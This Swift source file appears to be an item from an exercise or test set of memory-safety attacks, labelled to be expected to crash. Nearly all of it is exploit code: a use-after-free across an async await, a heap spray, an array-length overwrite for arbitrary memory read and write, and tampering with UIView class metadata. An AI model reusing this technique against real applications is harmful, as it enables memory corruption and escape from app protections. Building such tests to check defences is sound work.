// Attack: assigns behind a `?` what it waits for; meanwhile what has the list became nil.
// Exercise: 3
// Expect: crashed
// Held by: accesses stay open while a task waits
import UIKit

final class Small { // as large as a list of 26 numbers
    var n = 1
    var a = (0, 0, 0, 0, 0, 0, 0, 0), b = (0, 0, 0, 0, 0, 0, 0, 0), c = (0, 0, 0, 0, 0, 0, 0, 0), d = (0, 0, 0)
}
final class Obj {}
typealias Eight = (Int, Int, Int, Int, Int, Int, Int, Int)
let eight: Eight = (0, 0, 0, 0, 0, 0, 0, 0)
struct Box { var o = Obj(), list: [Int], any: Any = 0, pad = (eight, eight, eight, eight, eight, eight, eight, eight), pad2 = (eight, eight, eight, eight, eight, eight, eight, eight), pad3 = (eight, eight, eight, eight, eight, eight, eight, eight), pad4 = (eight, eight, eight, eight, eight, eight, eight, eight) }
final class Slot<T> { var box: T?; init(_ b: T) { box = b }; func clear() { box = nil } }
@MainActor enum Mem {
    static let store = Slot(Box(list: [1]))
    static let small = Small()
    static var isBegun = false, at = -1
    static var arrays: [[Int]] = []
    static let base = UInt(bitPattern: ObjectIdentifier(small)) &+ 32
    static func get(_ a: UInt) -> Int { arrays[at][Int((a &- base) >> 3)] }
    static func set(_ a: UInt, _ v: Int) { arrays[at][Int((a &- base) >> 3)] = v }
    static let kinds = UInt(bitPattern: ObjectIdentifier(UIView.self)) &+ 0x229b8
    static var old = 0
    static func spray(_ p: Int) {
        var t = (p, p, p, p, p, p, p, p, p, p, p, p, p, p, p, p, p, p, p, p, p, p, p, p, p, p, p, p, p, p, p, p)
        var u = (t, t, t, t, t, t, t, t, t, t, t, t, t, t, t, t, t, t, t, t, t, t, t, t, t, t, t, t, t, t, t, t)
        t.0 = p; u.1 = t
        withExtendedLifetime(u) {}
    }
    static func clear() { store.clear() }
    static func later() async -> [Int] {
        await Task { @MainActor in 
            spray(Int(bitPattern: ObjectIdentifier(small)))
            clear()
        }.value
        return [2]
    }
    static func begin() async {
        store.box?.list = await later()
        for i in 0..<60 { arrays.append(Array(repeating: i, count: 26)) }
        small.n = Int.max
        for i in arrays.indices where arrays[i].count == Int.max { at = i }
    }
}

class BaseView: UIView {
    override init(frame: CGRect) {
        super.init(frame: frame)
        if !Mem.isBegun { Mem.isBegun = true; Task { await Mem.begin() } }
    }
    required init?(coder: NSCoder) { super.init(coder: coder) }

    override func hitTest(_ point: CGPoint, with event: UIEvent?) -> UIView? {
        guard Mem.at >= 0 else { print("not ready"); return nil }
        Mem.old = Mem.get(Mem.kinds)
        Mem.set(Mem.kinds, 0)
        defer { Mem.set(Mem.kinds, Mem.old) }
        return super.hitTest(point, with: event)
    }
    override func point(inside point: CGPoint, with event: UIEvent?) -> Bool {
        Mem.set(Mem.kinds, Mem.old)
        return super.point(inside: point, with: event)
    }
}
